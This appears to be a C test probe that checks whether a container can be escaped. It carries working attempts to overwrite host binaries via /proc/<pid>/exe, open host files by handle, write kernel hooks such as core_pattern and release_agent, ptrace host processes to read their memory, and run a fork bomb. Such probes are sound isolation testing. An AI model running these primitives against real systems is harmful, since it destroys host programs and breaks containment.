/* What a shell cannot do in a container. Each word of the first argument is one deed; it prints what came of it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/ioctl.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int say(const char *what, long result) {
    if (result < 0) printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : strerror(errno));
    else printf("%s: %ld\n", what, result);
    fflush(stdout);
    return result < 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Whether it is time to end: it took as long as it may, or somebody outside made /stop. */
static int over(double end) {
    return now() >= end || access("/stop", F_OK) == 0;
}

/* syscall NUMBER [ARGUMENT...]: numbers, or text with a leading '@'. */
static int do_syscall(int count, char **words) {
    long a[7] = {0};
    for (int i = 0; i < count && i < 7; i++)
        a[i] = words[i][0] == '@' ? (long)(words[i] + 1) : (long)strtoull(words[i], 0, 0);
    return say("syscall", syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]));
}

/* exchange A B SECONDS: swaps two names as quickly as it can; says so once it does. */
static int do_exchange(char **words) {
    double end = now() + atof(words[2]);
    long swaps = 0;
    for (; swaps < 2 || now() < end; swaps++) {
        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2) < 0) return say("exchange", -1);
        if (swaps == 0) say("exchanging", 1);
    }
    return say("exchange", swaps);
}

/* Whether a handle is on a file that this root has by the handle's name. */
static int is_own(const char *name, int handle) {
    struct stat held, named;
    if (fstat(handle, &held) < 0 || stat(name, &named) < 0) return 0;
    return held.st_dev == named.st_dev && held.st_ino == named.st_ino;
}

/* overwrite SECONDS: looks for a program that is not of this root behind /proc/<pid>/exe, and writes over it. */
static int do_overwrite(char **words) {
    double end = now() + atof(words[0]);
    long tries = 0, wrote = 0;
    say("overwriting", 1);
    while (!over(end)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char path[64];
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int handle = open(path, O_PATH);
            if (handle < 0) continue;
            /* The handle is asked, not the process: that may have executed something else between two looks at it. */
            char name[PATH_MAX] = "";
            snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
            if (readlink(path, name, sizeof name - 1) > 0 && is_own(name, handle)) {
                close(handle);
                continue;
            }
            tries++;
            for (int i = 0; i < 2000; i++) {
                int out = open(path, O_WRONLY | O_TRUNC);
                if (out < 0 && errno == ETXTBSY) continue;
                if (out >= 0 && write(out, "#!/bin/sh\n", 10) == 10) {
                    wrote++;
                    printf("overwrite: into %s\n", name);
                }
                if (out >= 0) close(out);
                break;
            }
            close(handle);
        }
        if (proc) closedir(proc);
    }
    printf("overwrite: tries %ld wrote %ld\n", tries, wrote);
    return 0;
}

/* later DESCRIPTOR SECONDS: writes over the file that an inherited descriptor is a handle on, as soon as nobody runs it. */
static int do_later(char **words) {
    char path[64], name[PATH_MAX] = "";
    double end = now() + atof(words[1]);
    int last = 0;
    snprintf(path, sizeof path, "/proc/self/fd/%s", words[0]);
    if (readlink(path, name, sizeof name - 1) < 0) return say("later", -1);
    printf("later: holds %s\n", name);
    fflush(stdout);
    while (now() < end) {
        int out = open(path, O_WRONLY);
        if (out >= 0) return say("later wrote", pwrite(out, "overwritten", 11, 0));
        if (errno != last) say("later", -1);
        last = errno;
    }
    printf("later: gave up\n");
    return 0;
}

static long put(const char *path, const char *text) {
    int file = open(path, O_WRONLY);
    long wrote = file < 0 ? -1 : write(file, text, strlen(text));
    int error = errno;
    if (file >= 0) close(file);
    errno = error;
    return wrote;
}

/* Writes to a file what is in it already: whether that is allowed is what counts. */
static void rewrite(const char *path) {
    char text[4097];
    int file = open(path, O_RDONLY);
    long length = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (file >= 0) close(file);
    if (file < 0 && errno == ENOENT) { say(path, -1); return; }
    text[length > 0 ? length : 0] = 0;
    say(path, put(path, length > 0 ? text : "\n"));
}

/* nest: a user namespace within, with everything that it may try to reach the host's kernel. */
static int do_nest(void) {
    say("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
    put("/proc/self/setgroups", "deny");
    say("root", put("/proc/self/uid_map", "0 0 1") | put("/proc/self/gid_map", "0 0 1"));
    say("private", mount("none", "/", 0, MS_REC | MS_PRIVATE, 0));
    const char *folders[] = {"/tmp/cgroup", "/tmp/cgroup2", "/tmp/proc", "/tmp/sys"};
    for (unsigned i = 0; i < sizeof folders / sizeof *folders; i++) mkdir(folders[i], 0755);
    say("cgroup", mount("cgroup", "/tmp/cgroup", "cgroup", 0, "memory"));
    say("cgroup2", mount("cgroup2", "/tmp/cgroup2", "cgroup2", 0, 0));
    say("proc", mount("proc", "/tmp/proc", "proc", 0, 0));
    say("sysfs", mount("sysfs", "/tmp/sys", "sysfs", 0, 0));
    const char *files[] = {"/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hostname", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
        "/sys/fs/cgroup/memory/notify_on_release", "/tmp/cgroup/release_agent", "/tmp/proc/sys/kernel/core_pattern",
        "/tmp/proc/sys/kernel/modprobe", "/tmp/sys/kernel/uevent_helper"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) rewrite(files[i]);
    /* Only opened: what is written there is done at once. */
    const char *triggers[] = {"/proc/sysrq-trigger", "/tmp/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register"};
    for (unsigned i = 0; i < sizeof triggers / sizeof *triggers; i++) say(triggers[i], open(triggers[i], O_WRONLY));
    return 0;
}

/* Whether a process runs a program that is not of this root: 1, also where nobody here may look; 0 of this root; -1 gone. */
static int is_foreign(int pid) {
    char path[64], name[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int handle = open(path, O_PATH);
    if (handle < 0) return errno == EACCES || errno == EPERM ? 1 : -1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    int foreign = readlink(path, name, sizeof name - 1) <= 0 || !is_own(name, handle);
    close(handle);
    return foreign;
}

/* Whether a file of /proc/PID leads to anything but the root of this container. */
static int leads_out(int pid, const char *name) {
    char path[96];
    struct stat own, there;
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    if (stat("/", &own) < 0 || stat(path, &there) < 0) return 1;
    return own.st_dev != there.st_dev || own.st_ino != there.st_ino;
}

/* Whether a text is anywhere in what a process can write to of its memory: its stack with the environment, its heap. */
static int remembers(int pid, const char *text) {
    char path[64], line[512];
    unsigned long from, to;
    int found = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && memory >= 0 && fgets(line, sizeof line, maps)) {
        char may[5];
        if (sscanf(line, "%lx-%lx %4s", &from, &to, may) != 3 || may[1] != 'w') continue;
        char *copy = malloc(to - from);
        ssize_t length = copy ? pread(memory, copy, to - from, from) : -1;
        if (length > 0 && memmem(copy, length, text, strlen(text))) found = 1;
        free(copy);
    }
    if (maps) fclose(maps);
    if (memory >= 0) close(memory);
    else printf("traced memory: not read\n");
    return found;
}

/* What a process that stands still has: capabilities, places, descriptors beyond the three of its program, and whether it knows the caller's secret. */
static void tell_of(int pid) {
    char path[96], line[4096], name[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "CapPrm", 6) || !strncmp(line, "CapEff", 6) || !strncmp(line, "CapBnd", 6)) printf("traced %s", line);
    if (status) fclose(status);
    if (leads_out(pid, "root")) printf("traced root: outside\n");
    if (leads_out(pid, "cwd")) printf("traced folder: outside\n");
    for (int fd = 3; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        ssize_t length = readlink(path, name, sizeof name - 1);
        snprintf(path, sizeof path, "fd/%d", fd);
        if (length >= 0 && leads_out(pid, path)) printf("traced descriptor: %.*s\n", (int)length, name);
    }
    if (remembers(pid, "secret-of-the-host")) printf("traced environment: of the host\n");
}

/* Stops a process of a foreign program and looks at it: 1 while it still was one, 0 where it had become another, -1 refused. */
static int trace(int pid) {
    int status = 0, caught = 0;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return errno == EPERM ? -1 : 0;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        caught = is_foreign(pid) == 1;
        if (caught) tell_of(pid);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return caught;
}

/* hunt SECONDS: looks at every process but its own that comes: what it has open and where it is; and, while it still runs a
   program that is not of this root, attaches to it and opens its memory. */
static int do_hunt(char **words) {
    double end = now() + atof(words[0]);
    long seen = 0, folders = 0, tries = 0, traced = 0, refused = 0, memory = 0;
    int last = 0, caught = 0;
    struct stat there;
    say("hunting", 1);
    while (!over(end)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char path[96];
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            if (pid != last) seen++;
            last = pid;
            if (pid != caught && is_foreign(pid) == 1) {
                tries++;
                snprintf(path, sizeof path, "/proc/%d/mem", pid);
                int mem = open(path, O_RDWR);
                /* It is the memory of what it was when it was opened. */
                if (mem >= 0 && is_foreign(pid) == 1) memory++;
                if (mem >= 0) close(mem);
                int outcome = trace(pid);
                if (outcome > 0) { traced++; caught = pid; }
                if (outcome < 0) refused++;
            }
            for (int fd = 3; fd < 32; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                if (stat(path, &there) == 0 && S_ISDIR(there.st_mode)) {
                    int folder = open(path, O_RDONLY | O_DIRECTORY);
                    if (folder >= 0 && faccessat(folder, "canary-of-the-host", F_OK, 0) == 0) folders++;
                    if (folder >= 0) close(folder);
                }
            }
            snprintf(path, sizeof path, "/proc/%d/cwd/canary-of-the-host", pid);
            if (access(path, F_OK) == 0) folders++;
            snprintf(path, sizeof path, "/proc/%d/root/canary-of-the-host", pid);
            if (access(path, F_OK) == 0) folders++;
        }
        if (proc) closedir(proc);
    }
    printf("seen: %ld\nfolders: %ld\ntries: %ld\ntraced: %ld\nrefused: %ld\nmemory: %ld\nhunted: 1\n", seen, folders, tries, traced, refused, memory);
    return 0;
}

/* notify STATUS: refuses nothing, only tells a socket of systemd's protocol. */
static int do_notify(char **words) {
    const char *path = getenv("NOTIFY_SOCKET");
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (!path) { printf("notify: no socket\n"); return 1; }
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    return say("notify", sendto(s, words[0], strlen(words[0]), 0, (struct sockaddr *)&address, sizeof address));
}

/* shocker PATH: a file of the host by its handle (open_by_handle_at needs a capability over the file system). */
static int do_handle(char **words) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle;
    int mount = 0;
    handle.head.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount, 0) < 0) return say("handle", -1);
    int folder = open(words[0], O_RDONLY);
    return say("open", open_by_handle_at(folder, &handle.head, O_RDONLY));
}

/* within NAME PROGRAM...: runs a program in a session with a keyring of its own, which has one key; its text is its name. */
static int do_within(char **words) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0) < 0) return say("keyring", -1);
    if (syscall(SYS_add_key, "user", words[0], words[0], strlen(words[0]), KEY_SPEC_SESSION_KEYRING) < 0) return say("key", -1);
    execvp(words[1], words + 1);
    return say(words[1], -1);
}

/* key NAME: looks for a key in the session's keyring, and reads it. */
static int do_key(char **words) {
    char text[256];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", words[0], 0);
    if (key < 0) return say("key", -1);
    long length = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text);
    if (length < 0 || length > (long)sizeof text) return say("read", -1);
    printf("key: %.*s\n", (int)length, text);
    return 0;
}

/* bomb: forks, and what is forked does too. Each says once how it was refused, and goes on. */
static void do_bomb(void) {
    for (int told = 0;;) {
        pid_t child = fork();
        if (child == 0) told = 0;
        if (child < 0 && !told) told = say("fork", -1);
        if (child < 0) usleep(1000);
    }
}

/* clocks: the two that a time namespace can move. */
static int do_clocks(void) {
    struct timespec monotonic, boottime;
    if (clock_gettime(CLOCK_MONOTONIC, &monotonic) < 0 || clock_gettime(CLOCK_BOOTTIME, &boottime) < 0) return say("clocks", -1);
    printf("%ld %ld\n", (long)monotonic.tv_sec, (long)boottime.tv_sec);
    return 0;
}

static int do_masks(void) {
    sigset_t set;
    sigprocmask(0, 0, &set);
    int blocked = 0, ignored = 0;
    for (int i = 1; i < 32; i++) {
        struct sigaction action;
        blocked += sigismember(&set, i);
        if (sigaction(i, 0, &action) == 0 && action.sa_handler == SIG_IGN) ignored++;
    }
    printf("blocked %d ignored %d\n", blocked, ignored);
    return 0;
}

int main(int count, char **words) {
    const char *deed = count > 1 ? words[1] : "";
    char **rest = words + 2;
    if (!strcmp(deed, "syscall")) return do_syscall(count - 2, rest);
    if (!strcmp(deed, "exchange")) return do_exchange(rest);
    if (!strcmp(deed, "overwrite")) return do_overwrite(rest);
    if (!strcmp(deed, "later")) return do_later(rest);
    if (!strcmp(deed, "nest")) return do_nest();
    if (!strcmp(deed, "hunt")) return do_hunt(rest);
    if (!strcmp(deed, "notify")) return do_notify(rest);
    if (!strcmp(deed, "handle")) return do_handle(rest);
    if (!strcmp(deed, "signals")) return do_masks();
    if (!strcmp(deed, "within")) return do_within(rest);
    if (!strcmp(deed, "key")) return do_key(rest);
    if (!strcmp(deed, "clocks")) return do_clocks();
    if (!strcmp(deed, "bomb")) do_bomb();
    fprintf(stderr, "no such deed: %s\n", deed);
    return 2;
}
